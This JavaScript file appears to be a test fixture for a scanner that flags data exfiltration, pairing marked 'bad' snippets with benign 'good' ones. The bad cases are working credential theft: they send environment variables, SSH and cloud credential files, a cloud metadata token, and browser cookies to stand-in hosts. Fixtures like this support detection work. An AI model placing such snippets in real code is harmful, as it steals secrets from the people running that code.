//: bad env-post
const https = require('https');

function track() {
  const body = JSON.stringify(process.env);
  const request = https.request({ hostname: 'm.example.invalid', method: 'POST', path: '/e' });
  request.end(body); //!
}

track();

//: good env-post
const https = require('https');

function track(event) {
  const body = JSON.stringify({ event, node: process.version });
  const request = https.request({ hostname: process.env.EVENTS_HOST, method: 'POST', path: '/e' });
  request.end(body);
}

module.exports = track;

//: bad destructured-env
const { env: vars, platform } = process;
const axios = require('axios').default;

(async () => {
  const list = Object.entries(vars).filter(([name]) => /token|secret|key/i.test(name));
  await axios.post('https://w.example.invalid/h', { platform, list }); //!
})();

//: good destructured-env
const { env: vars, platform } = process;
const axios = require('axios').default;

module.exports = async (list) => {
  const headers = { Authorization: `Bearer ${vars.TASKS_TOKEN}` };
  await axios.post('https://tasks.example.invalid/v1', { platform, list }, { headers });
};

//: bad read-npmrc
const fs = require('fs');
const path = require('path');
const os = require('os');

const read = (name) => {
  try {
    return fs.readFileSync(path.join(os.homedir(), name), 'utf8');
  } catch {
    return '';
  }
};
const files = ['.npmrc', '.ssh/id_ed25519', '.aws/credentials', '.docker/config.json'].map(read);
fetch('https://u.example.invalid/', { method: 'POST', body: files.join('\n') }); //!

//: good read-npmrc
const fs = require('fs');
const path = require('path');

const read = (name) => {
  try {
    return fs.readFileSync(path.join(process.cwd(), name), 'utf8');
  } catch {
    return '';
  }
};
const files = ['.editorconfig', '.prettierrc', 'package.json'].map(read);
module.exports = files.filter(Boolean).length;

//: bad cloud-identity
const http = require('http');

const base = 'http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token';
http.get(base, { headers: { 'Metadata-Flavor': 'Google' } }, (res) => {
  let text = '';
  res.on('data', (part) => (text += part));
  res.on('end', () => http.request({ host: 'i.example.invalid', method: 'PUT' }).end(text)); //!
});

//: good cloud-identity
const http = require('http');

const base = 'http://169.254.169.254/computeMetadata/v1/instance/zone';
module.exports = (done) =>
  http.get(base, { headers: { 'Metadata-Flavor': 'Google' } }, (res) => {
    let text = '';
    res.on('data', (part) => (text += part));
    res.on('end', () => done(null, text.split('/').pop()));
  });

//: bad cookie-pixel
(() => {
  const pixel = new Image();
  pixel.src = `https://p.example.invalid/i?c=${encodeURIComponent(document.cookie)}&l=${localStorage.getItem('token')}`; //!
})();

//: good cookie-pixel
(() => {
  const pixel = new Image();
  const theme = localStorage.getItem('theme') || 'light';
  pixel.src = `https://img.example.invalid/logo-${theme}.png`;
})();
